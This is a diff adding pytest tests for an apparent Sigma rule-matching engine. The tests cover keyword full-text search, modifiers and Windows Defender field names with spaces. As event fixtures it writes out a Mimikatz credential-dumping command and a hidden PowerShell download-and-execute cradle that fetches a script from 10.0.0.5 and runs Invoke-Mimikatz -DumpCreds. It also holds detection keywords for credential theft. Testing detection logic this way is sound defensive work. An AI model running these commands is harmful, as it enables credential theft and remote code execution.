@@ -785,3 +785,264 @@ def test_process_creation_routed_to_sysmon(event, expected):
     text = rule_yaml({"sel": {"Image|endswith": "\\cmd.exe", "CommandLine|contains": "whoami"}},
                      logsource=PROC_CREATION)
     assert fires(text, event) is expected
+
+
+# =========================================================================== keywords are a full-text search
+#
+# Sigma specification (sigma-rules-specification.md), "Keywords search": "Contrary to the Field
+# Usage, It's a matter of searching for keywords across an entire event."; "Lists": "strings
+# that are applied to the full log message and are linked with a logical 'OR'". Decisions:
+# * a keyword matches when it occurs ANYWHERE in one of the event's values (as if `*kw*`),
+#   case-insensitively; `*`/`?` inside it work within one value (they never span two fields);
+# * values are searched, never field names (our "full log message" is the values: a JSON
+#   event's keys are not message text);
+# * values nested in lists/dicts are searched too; null values are not text;
+# * `|all`: every keyword must occur, each anywhere (possibly in different fields);
+# * modifiers apply to the keyword as pySigma transforms it (contains, windash, base64...,
+#   cased); `|startswith`/`|endswith` only add a wildcard on one side, which the implicit
+#   `*kw*` already has, so they search like a plain keyword; `|re` is searched as written;
+# * a number keyword (`- 4104`) is searched as its decimal text: it matches EventID 4104, a
+#   value "event 4104 logged" and also 41040 (a full-text search, like `*4104*`).
+
+
+def fires_fulltext(detection: dict, event: dict) -> bool:
+    """fires_det, also checking that routing + prefilter agree with brute force."""
+    loaded = load_ok(rule_yaml(detection))
+    engine = Engine(loaded.rules)
+    indexed = bool(engine.match(dict(event)))
+    assert indexed is bool(engine.match_all(dict(event))), "prefilter missed or invented a match"
+    return indexed
+
+
+# the shape of SigmaHQ's "Mimikatz Use" rule (win_alert_mimikatz_keywords.yml)
+MIMIKATZ_RULE = {"keywords": ["sekurlsa::logonpasswords", "Kiwi Legit Printer", "\\mimilib.dll"],
+                 "filter": {"EventID": 15}, "condition": "keywords and not filter"}
+MIMIKATZ_COMMAND = 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'
+
+
+@pytest.mark.parametrize("event,expected", [
+    pytest.param({"EventID": 307, "Param2": "Kiwi Legit Printer"}, True, id="mimikatz-exact-value"),
+    pytest.param({"EventID": 307, "Param2": "\\\\*\\Kiwi Legit Printer"}, True, id="mimikatz-unc-printer"),
+    pytest.param({"EventID": 307, "Param2": "\\\\PRN01\\kiwi legit printer (copy 1)"}, True,
+                 id="mimikatz-printer-case-and-suffix"),
+    pytest.param({"EventID": 1, "Image": "C:\\Tools\\mimikatz.exe", "CommandLine": MIMIKATZ_COMMAND},
+                 True, id="mimikatz-command-line"),
+    pytest.param({"EventID": 4104, "ScriptBlockText": "Invoke-Mimikatz -Command '\"SEKURLSA::LogonPasswords\"'"},
+                 True, id="mimikatz-script-block-case"),
+    pytest.param({"EventID": 7, "ImageLoaded": "C:\\Windows\\System32\\mimilib.dll"}, True,
+                 id="mimikatz-dll-path"),
+    pytest.param({"EventID": 15, "Contents": MIMIKATZ_COMMAND}, False, id="mimikatz-filtered-eid15"),
+    pytest.param({"EventID": 1, "CommandLine": "mimikatz.exe sekurlsa::tickets exit"}, False,
+                 id="mimikatz-other-command"),
+    pytest.param({"EventID": 1, "Kiwi Legit Printer": "x", "CommandLine": "notepad"}, False,
+                 id="mimikatz-field-name-not-searched"),
+])
+def test_keywords_mimikatz_rule(event, expected):
+    assert fires_fulltext(MIMIKATZ_RULE, event) is expected
+
+
+LONG_COMMAND = ("powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
+                "'http://10.0.0.5/a.ps1'); Invoke-Mimikatz -DumpCreds\"")
+
+FULLTEXT_CASES = [
+    # substring of a longer value, anywhere
+    pytest.param(["Invoke-Mimikatz"], {"CommandLine": LONG_COMMAND}, True, id="ft-middle-of-command-line"),
+    pytest.param(["DownloadString("], {"CommandLine": LONG_COMMAND}, True, id="ft-middle-punctuation"),
+    pytest.param(["Invoke-Mimikatz"], {"CommandLine": "powershell Invoke-Mimi katz"}, False, id="ft-absent"),
+    # case-insensitive both ways
+    pytest.param(["INVOKE-MIMIKATZ"], {"CommandLine": LONG_COMMAND}, True, id="ft-upper-keyword"),
+    pytest.param(["invoke-mimikatz"], {"CommandLine": LONG_COMMAND.upper()}, True, id="ft-upper-value"),
+    # wildcards inside a keyword, within one value
+    pytest.param(["sekurlsa::*passwords"], {"CommandLine": MIMIKATZ_COMMAND}, True, id="ft-star-inside"),
+    pytest.param(["sekurlsa::*passwords"], {"CommandLine": "sekurlsa::tickets /export"}, False,
+                 id="ft-star-inside-neg"),
+    pytest.param(["kiwi?legit"], {"Param": "\\\\srv\\Kiwi_Legit Printer"}, True, id="ft-question-inside"),
+    pytest.param(["kiwi?legit"], {"Param": "kiwilegit"}, False, id="ft-question-needs-one-char"),
+    pytest.param(["*Mimikatz -Dump*"], {"CommandLine": LONG_COMMAND}, True, id="ft-explicit-stars"),
+    pytest.param(["alpha*omega"], {"A": "x alpha 1 omega y"}, True, id="ft-star-one-value"),
+    pytest.param(["alpha*omega"], {"A": "alpha", "B": "omega"}, False, id="ft-star-never-spans-fields"),
+    pytest.param(["line1*line2"], {"A": "line1\nline2"}, True, id="ft-star-spans-newlines"),
+    # escaped wildcards are literal
+    pytest.param(["what\\?"], {"A": "so what? now"}, True, id="ft-escaped-question"),
+    pytest.param(["what\\?"], {"A": "so whatx now"}, False, id="ft-escaped-question-neg"),
+    # nested values (lists / dicts) are searched; field names never are
+    pytest.param(["sekurlsa::"], {"Data": ["x", {"Cmd": MIMIKATZ_COMMAND}]}, True, id="ft-nested"),
+    pytest.param(["sekurlsa::"], {"Data": {"Inner": [["y", "run sekurlsa::msv"]]}}, True, id="ft-nested-deep"),
+    pytest.param(["CommandLine"], {"CommandLine": "cmd.exe /c dir"}, False, id="ft-not-field-name"),
+    pytest.param(["Inner"], {"Data": {"Inner": "x"}}, False, id="ft-not-nested-field-name"),
+    pytest.param(["none"], {"A": None, "B": [None]}, False, id="ft-null-is-no-text"),
+    # numbers: searched as their decimal text (decision above)
+    pytest.param([4104], {"EventID": 4104}, True, id="ft-number-event-number"),
+    pytest.param([4104], {"EventID": "4104"}, True, id="ft-number-event-string"),
+    pytest.param([4104], {"EventID": 4103}, False, id="ft-number-other"),
+    pytest.param([4104], {"Message": "event 4104 was logged"}, True, id="ft-number-inside-text"),
+    pytest.param([4104], {"EventID": 41040}, True, id="ft-number-inside-number"),
+    pytest.param(["4104"], {"EventID": 4104}, True, id="ft-string-digits-event-number"),
+    pytest.param(["104"], {"EventID": 4104}, True, id="ft-digits-inside-event-number"),
+    pytest.param([4104], {"Data": [1, 4104]}, True, id="ft-number-nested"),
+]
+
+
+@pytest.mark.parametrize("keywords,event,expected", FULLTEXT_CASES)
+def test_keywords_full_text(keywords, event, expected):
+    assert fires_fulltext({"keywords": keywords, "condition": "keywords"}, event) is expected
+
+
+@pytest.mark.parametrize("item,event,expected", [
+    # |all: every keyword must occur somewhere, possibly in different fields
+    pytest.param({"|all": ["sekurlsa::logonpasswords", "privilege::debug"]},
+                 {"CommandLine": "mimikatz.exe sekurlsa::logonpasswords", "ParentCommandLine": "x privilege::debug"},
+                 True, id="all-two-fields"),
+    pytest.param({"|all": ["sekurlsa::logonpasswords", "privilege::debug"]},
+                 {"CommandLine": MIMIKATZ_COMMAND}, True, id="all-one-field"),
+    pytest.param({"|all": ["sekurlsa::logonpasswords", "privilege::debug"]},
+                 {"CommandLine": "mimikatz.exe sekurlsa::logonpasswords", "ParentCommandLine": "cmd.exe"},
+                 False, id="all-one-missing"),
+    # the specification's example, with its spaces: " -ExternalUrl " inside a longer value
+    pytest.param({"|all": ["OabVirtualDirectory", " -ExternalUrl "]},
+                 {"Payload": "Set-OabVirtualDirectory -Identity 'OAB' -ExternalUrl 'http://x/'"},
+                 True, id="all-spec-example"),
+    pytest.param({"|all": ["OabVirtualDirectory", " -ExternalUrl "]},
+                 {"Payload": "Set-OabVirtualDirectory -ExternalUrlX"}, False, id="all-spec-example-neg"),
+    # modifiers transform the keyword, then it is searched
+    pytest.param({"|contains": "logonpasswords"}, {"CommandLine": MIMIKATZ_COMMAND}, True, id="mod-contains"),
+    pytest.param({"|startswith": "sekurlsa::"}, {"CommandLine": MIMIKATZ_COMMAND}, True,
+                 id="mod-startswith-searches"),
+    pytest.param({"|endswith": "privilege::debug"}, {"CommandLine": MIMIKATZ_COMMAND}, True,
+                 id="mod-endswith-searches"),
+    pytest.param({"|startswith": "sekurlsa::"}, {"CommandLine": "mimikatz.exe kerberos::list"}, False,
+                 id="mod-startswith-absent"),
+    pytest.param({"|re": "sekurlsa::\\w+passwords"}, {"CommandLine": MIMIKATZ_COMMAND}, True, id="mod-re"),
+    pytest.param({"|re": "^sekurlsa"}, {"CommandLine": MIMIKATZ_COMMAND}, False, id="mod-re-anchor-as-written"),
+    pytest.param({"|re": "^sekurlsa"}, {"A": "x", "B": "sekurlsa::msv"}, True, id="mod-re-any-field"),
+    pytest.param({"|cased": "Kiwi Legit"}, {"Param": "\\\\srv\\Kiwi Legit Printer"}, True, id="mod-cased"),
+    pytest.param({"|cased": "Kiwi Legit"}, {"Param": "\\\\srv\\kiwi legit printer"}, False, id="mod-cased-neg"),
+    pytest.param({"|windash": "-DumpCreds"}, {"CommandLine": "Invoke-Mimikatz /DumpCreds x"}, True,
+                 id="mod-windash"),
+    pytest.param({"|base64offset|contains": "sekurlsa::"},
+                 {"Payload": "x " + b64(b"run sekurlsa::logonpasswords") + " y"}, True, id="mod-base64offset"),
+])
+def test_keywords_full_text_modifiers(item, event, expected):
+    assert fires_fulltext({"keywords": item, "condition": "keywords"}, event) is expected
+
+
+def test_keyword_explanation_names_the_keyword():
+    text = rule_yaml({"keywords": ["sekurlsa::logonpasswords", "Kiwi Legit Printer"], "condition": "keywords"})
+    engine = Engine(load_ok(text).rules)
+    event = {"CommandLine": MIMIKATZ_COMMAND}
+    [hit] = engine.match(event)
+    assert engine.explain(hit, event) == [
+        {"selection": "keywords", "field": "keywords", "value": "sekurlsa::logonpasswords"}]
+
+
+# =========================================================================== field names with spaces
+#
+# Windows Defender (and other providers) name EventData fields with spaces (`New Value`,
+# `Source Name`, `Threat Name`, `Process Name`); the Sigma specification, "Field Usage": "use
+# them as they appear in the log source and strip all spaces ... `New Value` -> `NewValue`".
+# Decisions: a rule's field name that the event lacks also finds an event name that equals it
+# once its spaces are removed; the name with its spaces keeps working; an event name without
+# spaces wins over a spaced one. Such a field exists (`|exists`, `null`) exactly as its spaced
+# original does; the alias is no value, so keyword search neither sees it nor counts it twice.
+
+DEFENDER_CHANNEL = "Microsoft-Windows-Windows Defender/Operational"
+DEFENDER_LOGSOURCE = {"product": "windows", "service": "windefend"}
+EXCLUSION = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public\\Tools = 0x0"
+DEFENDER_5007 = {
+    "EventID": 5007, "Channel": DEFENDER_CHANNEL, "Provider_Name": "Microsoft-Windows-Windows Defender",
+    "Computer": "WKS-01", "Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.23110.3",
+    "Old Value": None, "New Value": EXCLUSION,
+}
+DEFENDER_1116 = {
+    "EventID": 1116, "Channel": DEFENDER_CHANNEL, "Provider_Name": "Microsoft-Windows-Windows Defender",
+    "Threat Name": "HackTool:Win32/Mimikatz!pz", "Severity Name": "High", "Source Name": "AMSI",
+    "Process Name": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+    "Path": "amsi:_\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+}
+
+
+def defender_fires(selection: dict, event: dict, condition: str = "sel") -> bool:
+    text = rule_yaml({"sel": selection, "condition": condition}, logsource=DEFENDER_LOGSOURCE)
+    engine = Engine(load_ok(text).rules)
+    hit = bool(engine.match(dict(event)))
+    assert hit is bool(engine.match_all(dict(event)))
+    return hit
+
+
+@pytest.mark.parametrize("selection,event,expected", [
+    # SigmaHQ's "Windows Defender Exclusions Added" shape
+    pytest.param({"EventID": 5007, "NewValue|contains": "\\Microsoft\\Windows Defender\\Exclusions"},
+                 DEFENDER_5007, True, id="5007-newvalue-contains"),
+    pytest.param({"EventID": 5007, "NewValue|contains": "\\Real-Time Protection\\"},
+                 DEFENDER_5007, False, id="5007-newvalue-contains-neg"),
+    pytest.param({"EventID": 5007, "New Value|contains": "\\Exclusions\\Paths\\"},
+                 DEFENDER_5007, True, id="5007-spaced-name-as-written"),
+    pytest.param({"EventID": 5007, "NewValue|endswith": "= 0x0", "ProductName": "Microsoft Defender Antivirus"},
+                 DEFENDER_5007, True, id="5007-two-aliases"),
+    pytest.param({"EventID": 5007, "NewValue|re": "Exclusions\\\\Paths\\\\C:"},
+                 DEFENDER_5007, True, id="5007-newvalue-re"),
+    pytest.param({"EventID": 5007, "newvalue|contains": "exclusions"},
+                 DEFENDER_5007, False, id="5007-names-stay-case-sensitive"),
+    # SigmaHQ's "Microsoft Defender ... AMSI source" shape
+    pytest.param({"EventID": 1116, "SourceName": "AMSI"}, DEFENDER_1116, True, id="1116-sourcename"),
+    pytest.param({"EventID": 1116, "SourceName": "Real-Time Protection"}, DEFENDER_1116, False,
+                 id="1116-sourcename-neg"),
+    pytest.param({"EventID": 1116, "ThreatName|contains": "Mimikatz"}, DEFENDER_1116, True,
+                 id="1116-threatname"),
+    pytest.param({"EventID": 1116, "ProcessName|endswith": "\\powershell.exe"}, DEFENDER_1116, True,
+                 id="1116-processname"),
+    pytest.param({"EventID": 1116, "Path|contains": "amsi:"}, DEFENDER_1116, True, id="1116-plain-name"),
+])
+def test_spaced_field_names(selection, event, expected):
+    assert defender_fires(selection, event) is expected
+
+
+@pytest.mark.parametrize("spec,value,event,expected", [
+    pytest.param("NewValue|exists", True, DEFENDER_5007, True, id="exists-alias"),
+    pytest.param("NewValue|exists", False, DEFENDER_5007, False, id="exists-false-alias"),
+    pytest.param("OldValue|exists", True, DEFENDER_5007, True, id="exists-alias-null-value"),
+    pytest.param("NewValue", None, DEFENDER_5007, False, id="null-alias-has-value"),
+    pytest.param("OldValue", None, DEFENDER_5007, True, id="null-alias-null-value"),
+    pytest.param("OtherValue", None, DEFENDER_5007, True, id="null-absent"),
+    pytest.param("OtherValue|exists", True, DEFENDER_5007, False, id="exists-absent"),
+    pytest.param("New Value|exists", True, DEFENDER_5007, True, id="exists-spaced-as-written"),
+    pytest.param("SourceName", None, {**DEFENDER_1116, "Source Name": ""}, False, id="null-alias-empty"),
+    pytest.param("SourceName", "", {**DEFENDER_1116, "Source Name": ""}, True, id="empty-alias-empty"),
+])
+def test_spaced_field_names_exists_and_null(spec, value, event, expected):
+    assert defender_fires({spec: value}, event) is expected
+
+
+@pytest.mark.parametrize("selection,event,expected", [
+    # an event name without spaces is an ordinary field and wins
+    pytest.param({"NewValue": "a"}, {"NewValue": "a", "New Value": "b"}, True, id="real-name-wins"),
+    pytest.param({"NewValue": "b"}, {"NewValue": "a", "New Value": "b"}, False, id="alias-not-used-when-real"),
+    pytest.param({"NewValue": "b"}, {"New Value": ["a", "b"]}, True, id="alias-list-value"),
+    pytest.param({"EventID": 5007}, {"Event ID": 4104, "EventID": 5007}, True, id="routing-unaffected"),
+    pytest.param({"NewValue|fieldref": "OldValue"}, {"New Value": "X", "Old Value": "x"}, True, id="fieldref-aliases"),
+    pytest.param({"NewValue|cased": "X"}, {"New Value": "X"}, True, id="cased-alias"),
+    pytest.param({"NewValue|gt": 5}, {"New Value": 7}, True, id="numeric-alias"),
+    pytest.param({"SAMUserAccount": "bob"}, {"SAM User Account": "BOB"}, True, id="several-spaces"),
+])
+def test_spaced_field_names_lookup(selection, event, expected):
+    assert fires_fulltext({"sel": selection, "condition": "sel"}, event) is expected
+
+
+def test_spaced_field_alias_is_not_searched_by_keywords():
+    # names are never searched, and the alias adds no value of its own
+    assert fires_fulltext({"keywords": ["NewValue"], "condition": "keywords"}, DEFENDER_5007) is False
+    assert fires_fulltext({"keywords": ["New Value"], "condition": "keywords"}, DEFENDER_5007) is False
+    assert fires_fulltext({"keywords": ["Exclusions\\Paths"], "condition": "keywords"}, DEFENDER_5007) is True
+
+
+def test_spaced_field_explanation_shows_the_value():
+    text = rule_yaml({"sel": {"EventID": 5007, "NewValue|contains": "\\Windows Defender\\Exclusions"},
+                      "condition": "sel"}, logsource=DEFENDER_LOGSOURCE)
+    engine = Engine(load_ok(text).rules)
+    event = dict(DEFENDER_5007)
+    [hit] = engine.match(event)
+    matched = engine.explain(hit, event)
+    [entry] = [m for m in matched if m["field"].startswith("NewValue")]
+    assert entry["value"] == "*\\Windows Defender\\Exclusions*"
+    assert entry["event_value"] == EXCLUSION
+    assert "NewValue" not in event  # the event itself is not changed
